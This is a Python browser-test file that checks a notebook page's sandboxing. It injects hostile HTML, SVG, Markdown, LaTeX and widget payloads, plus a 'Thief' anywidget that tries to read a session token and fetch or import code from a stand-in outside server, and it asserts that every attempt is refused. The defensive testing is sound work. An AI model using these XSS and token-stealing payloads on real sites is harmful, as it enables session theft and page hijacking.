"""Outputs and widgets that attack, in real browsers: none reaches the page, its token or another server."""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest
from kitchen_sink import LIVE_MS, cell_under, run_code
from playwright.sync_api import expect
from watched_page import Watched

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser


# Each tries to reach the page, its token or another server; none may leave a trace.
HOSTILE = {
    "a script": """HTML('<script>top.document.title = "owned"</script>')""",
    "an event": """HTML('<img src=x onerror="document.title=`owned`"><svg onload="document.title=`owned`"></svg>')""",
    "a link": """HTML('<a id=evil href="javascript:document.title=`owned`">go</a>')""",
    "a refresh": """HTML('<meta http-equiv=refresh content="0;url=https://elsewhere.example"><b>x</b>')""",
    "a style": """HTML('<style>body { display: none } @import "https://elsewhere.example/a.css";</style><b>x</b>')""",
    "a drawing": """SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=`owned`"><g/></svg>')""",
    "JavaScript": """Javascript('top.document.title = "owned"; fetch("https://elsewhere.example")')""",
    "Markdown": """Markdown('<img src=x onerror="document.title=`owned`"> [go](javascript:document.title=`owned`)')""",
    "a formula": r"""Latex(r'$\href{javascript:document.title=1}{x} \style{background:url(https://elsewhere.example)}{y}$')""",
    "a formula's class": r"""Latex(r'$\htmlClass{tl-button}{x} \htmlStyle{position:fixed}{y} \url{javascript:a()}$')""",
    "a formula's picture": r"""Latex(r'$$\includegraphics{https://elsewhere.example/a.png}$$')""",
    "a formula that grows": r"""Latex(r'$\def\a{xxxxxxxx}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\c\c\c\c$')""",
    "a formula's markup": r"""Markdown(r'$\text{<img src=x onerror="document.title=`owned`">}$')""",
    "a widget's HTML": """ipywidgets.HTML('<img src=x onerror="document.title=`owned`">')""",
    "a description": """ipywidgets.IntSlider(description_allow_html=True,
    description='<img src=x onerror="document.title=`owned`">')""",
    "a class": """slider = ipywidgets.IntSlider(); slider.layout.margin = '-900px'; slider""",
}


@pytest.mark.firefox
@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_outputs_do_not_reach_the_page(sink: Watched, code: str) -> None:
    page = sink.page
    title = page.title()
    output = run_code(page, code)
    page.wait_for_timeout(300)
    for link in output.locator("a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript:")
    assert page.title() == title
    assert sink.foreign == []
    expect(page.locator("h1")).to_be_visible()


def hostile_model(name: str, **state: object) -> dict[str, object]:
    module = "@jupyter-widgets/controls"
    full = {"_model_name": name, "_view_name": name.replace("Model", "View"), "_view_module": module, **state}
    return {"model_name": name, "model_module": module, "model_module_version": "2.0.0", "state": full}


EVIL = "<img src=x onerror='document.title=`owned`'>"


@pytest.mark.parametrize(
    "model",
    [
        hostile_model("HTMLModel", value=EVIL),
        hostile_model("HTMLMathModel", value=EVIL),
        hostile_model("IntSliderModel", description=EVIL, description_allow_html=True),
        hostile_model("IntSliderModel", _view_name=EVIL),
        hostile_model(EVIL, _view_name="ErrorWidgetView", _view_module="@jupyter-widgets/base", msg=EVIL, error={}),
        hostile_model("IntSliderModel", layout="IPY_MODEL_missing"),
        hostile_model("constructor", _view_name="JUPYTER_CONTROLS_VERSION"),
        hostile_model("VBoxModel", children=["IPY_MODEL_missing"]),
        hostile_model("ImageModel", format="url", value="https://elsewhere.example/a.png"),
    ],
    ids=lambda model: str(model["model_name"])[:20],
)
def test_a_hostile_stored_state_does_not_reach_the_page(browser: Browser, kitchen: Path, model: object) -> None:
    widget = cell_widget((kitchen / "index.html").read_text())
    state = json.dumps({"version_major": 2, "version_minor": 0, "state": {widget: model}}).replace("<", "\\u003c")
    text = re.sub(
        r'(<script type="application/vnd.jupyter.widget-state\+json">).*?(</script>)',
        lambda found: found[1] + state + found[2],
        (kitchen / "index.html").read_text(),
        flags=re.DOTALL,
    )
    # Beside the real page, so that its scripts are found.
    page_file = kitchen / "hostile.html"
    page_file.write_text(text)
    context = browser.new_context()
    watched = Watched(context.new_page(), kitchen.as_uri())
    page = watched.page
    page.goto(page_file.as_uri())
    title = page.title()
    page.evaluate("() => window.tlHydrateAll()")
    output = cell_under(page, "Widgets").locator(".cell_output")
    for part in output.locator(".tl-widget-place > *").all():
        part.click(force=True)
    page.wait_for_timeout(200)
    assert page.title() == title
    assert watched.foreign == []
    assert output.locator("img[onerror]").count() == 0
    context.close()


def cell_widget(text: str) -> str:
    """Return the id of the model that the cell under *Widgets* shows."""
    found = re.search(r'id="widgets".*?"model_id":"(\w+)"', text, re.DOTALL)
    assert found is not None
    return found[1]


THIEF = """
class Thief(anywidget.AnyWidget):
    _esm = '''
    async function attempt(name, act) {
      try { return `${name}: got ${JSON.stringify(await act())}`; } catch (error) { return `${name}: refused`; }
    }
    export default { async render({ model, el }) {
      const tries = await Promise.all([
        attempt("storage", () => parent.sessionStorage.getItem("tl-reader")),
        attempt("page", () => parent.document.title),
        attempt("mint", async () => (await fetch("ADDRESSapi/reader", { method: "POST" })).status),
        attempt("own", () => sessionStorage.length),
        attempt("elsewhere", async () => (await fetch("ELSEWHERE")).status),
        attempt("import", () => import("ELSEWHERE/x.js")),
      ]);
      model.set("_esm", "changed"); model.set("layout", "IPY_MODEL_x"); model.save_changes();
      top.postMessage({ kind: "tl-height", height: 1e9 }, "*");
      el.textContent = tries.join("; ");
    } };
    '''
Thief()
"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another server, and what it was asked for: the browser reports requests that its policy stopped too."""
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


@pytest.mark.firefox
def test_an_anywidget_can_steal_nothing(sink: Watched, kitchen_address: str, elsewhere: tuple[str, list[str]]) -> None:
    page = sink.page
    title = page.title()
    run_code(page, "print('the reader has a token now')")
    assert page.evaluate("() => sessionStorage.getItem('tl-reader')"), "there is a token to steal"
    output = run_code(page, THIEF.replace("ADDRESS", kitchen_address).replace("ELSEWHERE", elsewhere[0]))
    words = output.frame_locator("iframe").locator("#root")
    expect(words).to_contain_text("import", timeout=LIVE_MS)
    text = words.inner_text()
    assert text.count("refused") == 6, text
    assert page.title() == title
    assert elsewhere[1] == []
    box = output.locator("iframe").bounding_box()
    assert box is not None
    assert box["height"] <= 6000
